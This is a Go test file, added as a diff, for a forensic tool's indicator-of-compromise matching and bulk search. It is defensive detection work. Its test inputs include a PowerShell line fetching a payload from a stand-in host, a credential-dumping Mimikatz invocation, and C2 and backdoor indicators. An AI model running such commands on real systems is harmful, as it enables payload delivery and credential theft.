@@ -0,0 +1,193 @@
+// Copyright (c) 2020 Siemens AG
+//
+// Permission is hereby granted, free of charge, to any person obtaining a copy of
+// this software and associated documentation files (the "Software"), to deal in
+// the Software without restriction, including without limitation the rights to
+// use, copy, modify, merge, publish, distribute, sublicense, and/or sell copies of
+// the Software, and to permit persons to whom the Software is furnished to do so,
+// subject to the following conditions:
+//
+// The above copyright notice and this permission notice shall be included in all
+// copies or substantial portions of the Software.
+//
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY, FITNESS
+// FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE AUTHORS OR
+// COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER LIABILITY, WHETHER
+// IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM, OUT OF OR IN
+// CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE SOFTWARE.
+//
+// Author(s): Jonas Plum
+
+package builtin
+
+import (
+	"path/filepath"
+	"reflect"
+	"sort"
+	"strings"
+	"testing"
+
+	"github.com/tidwall/gjson"
+
+	"github.com/forensicanalysis/forensicstore"
+)
+
+func TestIndicatorType(t *testing.T) {
+	tests := []struct {
+		value string
+		want  string
+	}{
+		{"D41D8CD98F00B204E9800998ECF8427E", iocHash},
+		{"da39a3ee5e6b4b0d3255bfef95601890afd80709", iocHash},
+		{"10.0.0.1", iocIP},
+		{"fe80::1", iocIP},
+		{"10.0.0.0/8", iocCIDR},
+		{"evil.example.org", iocDomain},
+		{"https://evil.example.org/payload", iocURL},
+		{"mimikatz.exe", iocFilename},
+		{`C:\Windows\Temp\evil.dll`, iocFilename},
+		{"/tmp/backdoor", iocFilename},
+		{"Invoke-Mimikatz", iocString},
+	}
+	for _, tt := range tests {
+		t.Run(tt.value, func(t *testing.T) {
+			if got := indicatorType(tt.value); got != tt.want {
+				t.Errorf("indicatorType(%q) = %v, want %v", tt.value, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestReadIndicators(t *testing.T) {
+	var warnings []string
+	iocs, err := readIndicators(strings.NewReader(`
+# comment
+evil[.]example[.]org
+hxxps://Evil.Example.org/a/
+regex:(?i)invoke-\w+
+ip:not an ip
+filename:C:\Temp\Evil.EXE
+foo:bar
+`), func(err error) { warnings = append(warnings, err.Error()) })
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, ioc := range iocs {
+		got = append(got, ioc.Type+" "+ioc.normalized)
+	}
+	want := []string{
+		"domain evil.example.org",
+		"url https://evil.example.org/a",
+		`regex (?i)invoke-\w+`,
+		"filename evil.exe",
+		"string foo:bar",
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("indicators = %v, want %v", got, want)
+	}
+	if want := []string{"line 6: invalid ip not an ip"}; !reflect.DeepEqual(warnings, want) {
+		t.Errorf("warnings = %v, want %v", warnings, want)
+	}
+}
+
+func TestIOCIndexMatch(t *testing.T) {
+	var iocs []*indicator
+	for _, value := range []string{
+		"d41d8cd98f00b204e9800998ecf8427e",
+		"ip:192.168.1.10",
+		"2001:db8::1",
+		"10.0.0.0/8",
+		"example.org",
+		"http://example.com/payload",
+		"regex:^cmd /c",
+		"evil.exe",
+		"Invoke-Mimikatz",
+	} {
+		ioc, err := readIndicators(strings.NewReader(value), func(err error) { t.Fatal(err) })
+		if err != nil {
+			t.Fatal(err)
+		}
+		iocs = append(iocs, ioc...)
+	}
+	index := newIOCIndex(iocs)
+
+	tests := []struct {
+		name  string
+		value string
+		want  []string
+	}{
+		{"hash", "MD5=D41D8CD98F00B204E9800998ECF8427E,SHA256=00", []string{"d41d8cd98f00b204e9800998ecf8427e"}},
+		{"hash prefix", "d41d8cd98f00b204e9800998ecf8427e00", nil},
+		{"ip", "192.168.1.10:445", []string{"192.168.1.10"}},
+		{"ip prefix", "192.168.1.100", nil},
+		{"ipv6", "[2001:0db8:0000::1]:80", []string{"2001:db8::1"}},
+		{"cidr", "10.20.30.40", []string{"10.0.0.0/8"}},
+		{"subdomain", "ping cdn.EXAMPLE.org", []string{"example.org"}},
+		{"other domain", "notexample.org", nil},
+		{"url", "iwr HTTP://EXAMPLE.COM/payload/ -o x", []string{"http://example.com/payload"}},
+		{"regex", "cmd /c whoami", []string{"^cmd /c"}},
+		{"filename", `"C:\Users\Public\EVIL.exe" -run`, []string{"evil.exe"}},
+		{"filename suffix", `C:\notevil.exe`, nil},
+		{"string", "powershell invoke-mimikatz -dump", []string{"Invoke-Mimikatz"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var got []string
+			for _, ioc := range index.match(tt.value) {
+				got = append(got, ioc.Value)
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("match(%q) = %v, want %v", tt.value, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestBulkSearchStore(t *testing.T) {
+	store, teardown, err := forensicstore.New(filepath.Join(t.TempDir(), "test.forensicstore"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer teardown()
+
+	for _, element := range []string{
+		`{"type": "process", "id": "process--920d7c41-0fef-4cf8-bce2-ead120f6b506", "name": "evil.exe", "command_line": "evil.exe --connect 10.0.0.5"}`,
+		`{"type": "eventlog", "EventData": {"Hashes": "MD5=D41D8CD98F00B204E9800998ECF8427E", "DestinationHostname": "c2.example.org"}}`,
+		`{"type": "service", "name": "clean"}`,
+	} {
+		if _, err := store.Insert([]byte(element)); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	iocs, err := readIndicators(strings.NewReader("evil.exe\n10.0.0.0/24\nd41d8cd98f00b204e9800998ecf8427e\nexample.org\n"), func(err error) { t.Fatal(err) })
+	if err != nil {
+		t.Fatal(err)
+	}
+	tlw := &testLineWriter{}
+	if err := bulkSearchStore(tlw, store, nil, iocs); err != nil {
+		t.Fatal(err)
+	}
+
+	var got []string
+	for _, line := range tlw.lines {
+		hit := gjson.ParseBytes(line)
+		if hit.Get("element_ref").String() == "" {
+			t.Errorf("hit without element_ref %s", line)
+		}
+		got = append(got, strings.Join([]string{hit.Get("indicator_type").String(), hit.Get("element_type").String(), hit.Get("field").String()}, " "))
+	}
+	sort.Strings(got)
+	want := []string{
+		"cidr process command_line",
+		"domain eventlog EventData.DestinationHostname",
+		"filename process command_line",
+		"filename process name",
+		"hash eventlog EventData.Hashes",
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("hits = %v, want %v", got, want)
+	}
+}